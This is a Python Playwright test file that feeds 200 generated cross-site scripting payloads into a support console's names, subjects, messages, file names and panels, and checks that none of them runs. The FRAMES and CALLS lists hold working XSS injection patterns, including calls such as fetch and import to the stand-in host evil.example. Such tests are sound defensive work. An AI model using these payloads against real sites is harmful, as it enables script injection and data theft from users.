"""What strangers wrote stays text: 200 payloads in names, texts, subjects, file names, addresses and panels."""

import itertools
import re
from urllib.parse import quote

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import Visits
from tests.browser.test_console import console
from tests.support.centre import Centre

FRAMES = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" onmouseover={} x="',
    "' onfocus={} autofocus x='",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java&#9;script:{}",
    "data:text/html,<script>{}</script>",
    "<a href=javascript:{}>click</a>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<details open ontoggle={}>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "<!--<img src=x onerror={}>-->",
    "<style>@import 'javascript:{}';</style>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<form action='javascript:{}'><button>go</button></form>",
]
CALLS = [
    "alert(1)",
    "window.pwned=1",
    "top.pwned=1",
    "fetch('//evil.example')",
    "confirm(1)",
    "self['pwned']=1",
    "import('//evil.example')",
    "eval('pwned=1')",
]
PAYLOADS = [frame.format(call) for frame, call in itertools.product(FRAMES, CALLS)]
PLACES = 5  # a payload each for name, subject, text, file and panel in one conversation
TRAP = "window.pwned = 0; for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => { window.pwned = 1; }; null"


async def unharmed(page: Page) -> None:
    """Nothing ran, nothing was refused by the policy, and no element was made of what was written."""
    assert await page.evaluate("[window.pwned, window.breaches]") == [0, []]
    assert (
        await page.locator("main iframe, main script, main img, main form[action], main base, hub-app style").count()
        == 0
    )
    hrefs = await page.locator("a[href]").evaluate_all("(all) => all.map((one) => one.protocol)")
    assert set(hrefs) <= {"http:", "https:"}


@pytest.mark.timeout(300)  # forty conversations, looked at one after the other
async def test_two_hundred_payloads_stay_text(visit: Visits, centre: Centre) -> None:
    """None runs in the table, the roster, the transcript, the panels, detail or timeline; no policy report comes."""
    assert len(PAYLOADS) == 200
    page = await console(visit, centre)
    await page.evaluate(TRAP)
    parts = [PAYLOADS[at : at + PLACES] for at in range(0, len(PAYLOADS), PLACES)]
    for name, subject, text, file, panel in parts:
        story = await centre.story(
            agents=(),
            customer={"id": "cus_x", "name": name},
            subject=subject,
            panels={"customer": {panel: panel, "list": [panel, {"deep": panel}]}},
        )
        files = [{"url": "https://files.example/?" + quote(file), "name": file, "mime": "text/html"}]
        await story.tell("participant.connected", participant_id="p_x", purpose="agent", user_id="x", name=subject)
        await story.tell("message.created", message_id="c:1", text=text, purpose="customer", attachments=files)
        await story.tell("message.created", message_id="c:2", text=panel, participant_id="p_x")
    await expect(page.get_by_text("40 conversations")).to_be_visible()
    await unharmed(page)
    grid = page.get_by_role("grid")
    for turn in range(len(parts)):
        await page.evaluate("location.hash = '/interactions'")
        await expect(grid).to_be_visible()
        await grid.evaluate("(grid, px) => { grid.scrollTop = px; }", turn * 42)
        await page.locator(f"[aria-rowindex='{turn + 2}']").get_by_role("button", name=re.compile("^Monitor")).click()
        await expect(page.get_by_role("log")).to_be_visible()
        await expect(page.get_by_role("log").get_by_role("article")).to_have_count(2)
        await unharmed(page)
        if turn % 8 == 0:
            for tab in ("Detail", "Timeline"):
                await page.get_by_role("tab", name=tab).click()
                await unharmed(page)
    for name in ("Queues", "Agents"):
        await page.get_by_role("navigation").get_by_role("link", name=name).click()
        await expect(page.get_by_role("heading", name=name, level=1)).to_be_visible()
    await unharmed(page)
